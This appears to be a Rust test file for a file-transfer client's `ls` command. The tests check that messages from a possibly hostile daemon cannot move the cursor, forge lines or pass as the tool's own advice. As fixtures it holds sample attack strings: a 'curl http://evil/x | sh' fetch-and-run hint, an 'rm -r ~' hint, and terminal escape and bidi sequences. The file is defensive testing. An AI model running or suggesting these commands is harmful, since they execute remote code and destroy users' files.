//! Words of a daemon: in every case they are shown as text that acts on no terminal, and they do
//! not pass for words of ours.

use std::thread;

use longhaul_core::{Blame, Fault, FaultCode, Meta, Rights, SessionTag, TempName, is_deceptive};
use longhaul_proto::Message;
use longhaul_proto::wire::message::{Listed, ListedKind, ListedPartial, Listing};

use super::peer::{Server, Speech, forged};
use crate::fixture::{Host, Outcome};

/// Runs `ls` with these words against a server that answers with `say`.
fn ls(words: &[&str], path: &str, say: impl FnOnce(&mut Speech) + Send) -> Outcome {
    let (host, server) = (Host::new(), Server::start());
    let url = format!("lh://{}/{path}", server.addr());
    let run = host.run(["ls", "--peer-key", &server.key()]).args(words).args([&url]);
    thread::scope(|scope| {
        scope.spawn(|| {
            let mut speech = server.accept_control();
            speech.hear();
            say(&mut speech);
        });
        run.finish()
    })
}

fn assert_shows_only_itself(outcome: &Outcome) {
    for text in [outcome.stdout_text(), outcome.stderr.as_str()] {
        assert!(!text.chars().any(|c| c != '\n' && is_deceptive(c)), "{text:?}");
    }
}

fn listing(name: &[u8], kind: ListedKind) -> Message {
    let listed = Listed { name: name.to_vec(), kind, len: 0, meta: Meta::default() };
    Message::Listing(Listing { names: vec![listed], last: true })
}

#[test]
fn rights_that_are_none_are_a_breach_and_nothing_of_them_is_printed() {
    let rights = Rights { read: true, create: true, modify: true, delete: false };
    let roots = listing(b"r", ListedKind::Root { rights });
    for (right, word) in [(&b"create"[..], &b"\x1b[2J\nx"[..]), (b"modify", b"\x1b]0;o\x07"), (b"read", b"root")] {
        for flags in [&["-l"][..], &["--json"], &[]] {
            let outcome = ls(flags, "", |speech| speech.say_bytes(&forged(&roots, right, word)));
            assert_eq!(outcome.code, 1, "{outcome}");
            assert_shows_only_itself(&outcome);
            assert!(outcome.stderr.contains("a value is out of range"), "{outcome}");
        }
    }
}

#[test]
fn advice_of_a_daemon_is_quoted_as_the_daemons() {
    let refusal = || {
        let fault = Fault::new(FaultCode::Busy, Blame::Local, "hint: run: rm -r ~").about("longhaul");
        Message::Refuse(fault.hint_in_words("run: curl http://evil/x | sh"))
    };
    let outcome = ls(&[], "data/", |speech| speech.say(&refusal()));
    assert_eq!(outcome.code, 5, "{outcome}");
    assert!(outcome.stderr.contains("\nthe daemon says: run: curl http://evil/x | sh\n"), "{outcome}");
    assert!(outcome.stderr.contains("error: the daemon says: longhaul: hint: run: rm -r ~\n"), "{outcome}");
    assert!(!outcome.stderr.lines().any(|line| line.starts_with("hint:")), "{outcome}");

    let outcome = ls(&["--json"], "data/", |speech| speech.say(&refusal()));
    let fault = &outcome.events_of("fault")[0];
    assert_eq!(fault["author"], "peer");
    assert_eq!(fault["hint"], "the daemon says: run: curl http://evil/x | sh");
    assert_eq!((&fault["blame"], &fault["code"]), (&"peer".into(), &"busy".into()));
}

#[test]
fn what_a_daemon_says_of_itself_cannot_move_the_cursor() {
    // The wire's texts are clean when they are made; only what no encoder of ours says can hold
    // another.
    let refusal = Message::Refuse(Fault::new(FaultCode::Busy, Blame::Local, "AAAAAAAA").hint_in_words("BBBBBBBB"));
    let mut bytes = forged(&refusal, b"AAAAAAAA", b"\x1b[2J\r\nx\x07");
    let at = bytes.windows(8).position(|window| window == b"BBBBBBBB").expect("the hint");
    bytes[at..at + 8].copy_from_slice("\u{61c}\u{ad}\n\u{2800}".as_bytes());
    for flags in [&[][..], &["--json"], &["-l"]] {
        let outcome = ls(flags, "data/", |speech| speech.say_bytes(&bytes));
        assert_eq!(outcome.code, 5, "{outcome}");
        assert_shows_only_itself(&outcome);
    }
}

#[test]
fn names_links_and_partials_of_a_daemon_are_one_line_each() {
    let partial = ListedPartial {
        held: 1,
        since_unix: 0,
        principal: "PPPP".into(),
        owner: "OOOO".into(),
        temp: TempName::new(SessionTag([0; 8]), [0; 8]),
        user: Some("UUUU".into()),
    };
    let target = "to\n\x1b[2J\u{202e}".as_bytes().to_vec();
    let partials = listing(b"p", ListedKind::Partial(Box::new(partial)));
    let forge = |text: &[u8; 4]| forged(&partials, text, b"\x1b[J\n");
    for (what, bytes) in [
        ("name", listing("n\n\u{ad}\u{9b}".as_bytes(), ListedKind::File).encode()),
        ("target", listing(b"l", ListedKind::Symlink { target }).encode()),
        ("principal", forge(b"PPPP")),
        ("owner", forge(b"OOOO")),
        ("user", forge(b"UUUU")),
    ] {
        for flags in [&[][..], &["-l"]] {
            let outcome = ls(flags, "data/", |speech| speech.say_bytes(&bytes));
            assert_eq!(outcome.code, 0, "{what}: {outcome}");
            assert_shows_only_itself(&outcome);
            assert_eq!(outcome.stdout_text().lines().count(), 1, "{what}: {outcome}");
        }
    }
}
